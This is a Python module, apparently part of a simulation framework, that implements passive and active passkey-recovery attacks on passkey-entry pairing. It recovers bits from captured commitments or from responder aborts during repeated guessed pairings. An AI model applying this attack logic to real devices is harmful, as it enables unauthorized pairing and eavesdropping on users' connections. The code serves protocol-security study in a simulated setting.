"""Passkey recovery against passkey-entry pairing.

Passive: every round's commitment ``c_a`` is opened by ``n_a`` on the wire,
so one commitment evaluation per round with the bit set to 0 decides that
bit.  Active: the attacker pairs as initiator guessing 0 for each unknown
bit; the responder aborting reveals a 1.
"""

from __future__ import annotations

from dataclasses import dataclass

from .. import crypto
from ..crypto import DEFAULT_GROUP, ModpGroup
from ..errors import ExceededAttempts, HardenedTranscript, IncompleteTranscript, Refused
from ..pairing import (
    HARDENED_FLAG,
    PAIRING_CID,
    Abort,
    Passkey,
    PairingTranscript,
    Round,
    Success,
    pair_passkey_entry,
    policy_for,
)
from ..simcore import AddrLike, CaptureLog, Device, L2cap, Simulation


@dataclass(frozen=True)
class RecoveryResult:
    """Recovered passkey plus the work it took.

    ``aborted_attempts`` counts pairing sessions the responder aborted; the
    final, successful confirmation run is not included.
    """

    passkey: Passkey
    hmac_evaluations: int
    aborted_attempts: int = 0
    sessions: int = 0


def passive_recover(transcript: PairingTranscript) -> RecoveryResult:
    if transcript.hardened or any(r.encrypted for r in transcript.rounds):
        raise HardenedTranscript()
    if len(transcript.rounds) < transcript.k or any(r.n_a is None for r in transcript.rounds):
        raise IncompleteTranscript(
            f"need {transcript.k} opened rounds, have {len(transcript.rounds)}")
    evaluations = 0
    bits = []
    for r in sorted(transcript.rounds, key=lambda r: r.index):
        evaluations += 1
        bits.append(0 if crypto.commit(transcript.pk_a, transcript.pk_b, r.n_a, 0) == r.c_a else 1)
    return RecoveryResult(Passkey.from_bits(bits, transcript.k), evaluations)


def extract_transcripts(log: CaptureLog) -> list[PairingTranscript]:
    """Rebuild every pairing session visible in a capture, in order."""
    sessions: list[dict] = []
    for p in log:
        layer = p.layer
        if not isinstance(layer, L2cap) or layer.cid != PAIRING_CID:
            continue
        initiator_side = p.direction == "sent"
        if layer.kind == "Pairing Request":
            flags, k = layer.payload[0], layer.payload[1]
            sessions.append(dict(hardened=bool(flags & HARDENED_FLAG), k=k, pk_a=None,
                                 pk_b=None, fields=[]))
            continue
        if not sessions:
            continue
        cur = sessions[-1]
        if layer.kind == "Pairing Public Key":
            cur["pk_a" if initiator_side else "pk_b"] = layer.payload
        elif layer.kind in ("Pairing Confirm", "Pairing Random"):
            cur["fields"].append(layer.payload)

    out = []
    for s in sessions:
        if s["pk_a"] is None or s["pk_b"] is None:
            continue
        rounds = []
        f = s["fields"]
        for i in range(0, len(f), 4):
            chunk = f[i:i + 4] + [None] * (4 - len(f[i:i + 4]))
            if chunk[1] is None:
                break
            rounds.append(Round(i // 4 + 1, chunk[0], chunk[1], chunk[2], chunk[3],
                                encrypted=s["hardened"]))
        out.append(PairingTranscript(s["pk_a"], s["pk_b"], tuple(rounds), s["hardened"], s["k"]))
    return out


def active_recover(sim: Simulation, attacker: Device, target: AddrLike,
                   max_attempts: int | None = None, k: int = 20,
                   group: ModpGroup = DEFAULT_GROUP) -> RecoveryResult:
    """Learn the target's passkey through repeated guessed pairings.

    Each attempt redoes the full key exchange.  Known bits are replayed and
    every unknown bit is guessed 0: a continued round confirms 0, an abort
    at round ``i`` means bit ``i`` is 1 and the next attempt starts over
    with it.  Raises ``ExceededAttempts`` when ``max_attempts`` sessions
    run out, which is what happens against a per-session rotating passkey.
    """
    dev = sim.device(target)
    fw = dev.profile.firmware
    if not (fw.auto_accept_connections or fw.fixed_passkey is not None or fw.rotate_passkey):
        raise Refused(f"{dev.name} does not accept unattended pairing")
    policy = policy_for(sim, dev, k)
    if max_attempts is None:
        max_attempts = k + 1

    known: list[int] = []
    aborted = 0
    evaluations = 0
    for attempt in range(1, max_attempts + 1):
        guess = Passkey.from_bits(known + [0] * (k - len(known)), k)
        outcome, transcript = pair_passkey_entry(sim, attacker, dev.addr, guess,
                                                 policy.next_session(), group=group)
        # attacker side: commit c_a every round, check c_b when B opens it
        evaluations += sum(1 + (r.n_b is not None) for r in transcript.rounds)
        if isinstance(outcome, Success):
            return RecoveryResult(guess, hmac_evaluations=evaluations,
                                  aborted_attempts=aborted, sessions=attempt)
        assert isinstance(outcome, Abort)
        aborted += 1
        i = outcome.round_index
        known = guess.bits()[:i - 1] + [1 - guess.bit(i)]
    best = Passkey.from_bits(known + [0] * (k - len(known)), k)
    raise ExceededAttempts(max_attempts, aborted, best.value)
